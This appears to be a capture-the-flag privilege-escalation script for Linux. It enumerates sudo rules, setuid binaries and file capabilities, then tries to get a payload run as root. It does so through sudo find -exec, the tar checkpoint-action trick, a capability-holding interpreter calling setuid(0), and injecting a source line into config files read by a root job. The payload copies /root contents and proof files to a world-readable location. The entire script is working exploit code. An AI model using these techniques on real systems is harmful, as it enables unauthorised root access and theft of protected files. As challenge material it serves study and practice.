#-- what may staff run as root; what does root run; which programs have capabilities
sudo -n -l
cat /usr/local/sbin/rounds /etc/rounds.d/*
for folder in $(grep -ho '/var/lib/desk/[^/ ]*' /etc/rounds.d/*.sh | sort -u); do ls -la "$folder"; done
find / -xdev -perm -4000 -type f 2> /dev/null; /usr/sbin/getcap -r / 2> /dev/null | tee /tmp/capable
ls -l $(cut -d' ' -f1 /tmp/capable)
#-- a command that root is to run, by the way that is open
cat > /tmp/look.sh <<'END'
ls -R /root > /tmp/found; cat /root/*/proof.txt >> /tmp/found; chmod 644 /tmp/found
END
rule=$(sudo -n -l | grep -o '/usr/bin/.*')
engine=$(cut -d' ' -f1 /tmp/capable)
case "$rule" in
*find*\*) eval "sudo -n ${rule%\*} -maxdepth 0 -exec sh /tmp/look.sh \;" ;;
*tar*\*) eval "sudo -n ${rule%\*} . --checkpoint=1 --checkpoint-action=exec='sh /tmp/look.sh'" ;;
esac
[ ! -x "$engine" ] || "$engine" -c 'import os; os.setuid(0); os.execv("/bin/sh", ["sh", "/tmp/look.sh"])'
for settings in $(grep -ho '/var/lib/desk/.*[.]conf' /etc/rounds.d/*.sh); do
    cp "$settings" /tmp/before
    if [ -w "$settings" ]; then echo '. /tmp/look.sh' >> "$settings"
    elif [ -w "${settings%/*}" ]; then mv "$settings" "$settings.old"; { cat "$settings.old"; echo '. /tmp/look.sh'; } > "$settings"
    else continue; fi
    for second in $(seq 30); do grep -q flag /tmp/found 2> /dev/null && break; sleep 1; done
    if [ -e "$settings.old" ]; then mv -f "$settings.old" "$settings"; else cat /tmp/before > "$settings"; fi
    break
done
ls -l /tmp/found
#-- what it saw
cat /tmp/found; rm -f /tmp/look.sh
grep -o 'flag{[0-9a-f]*}' /tmp/found
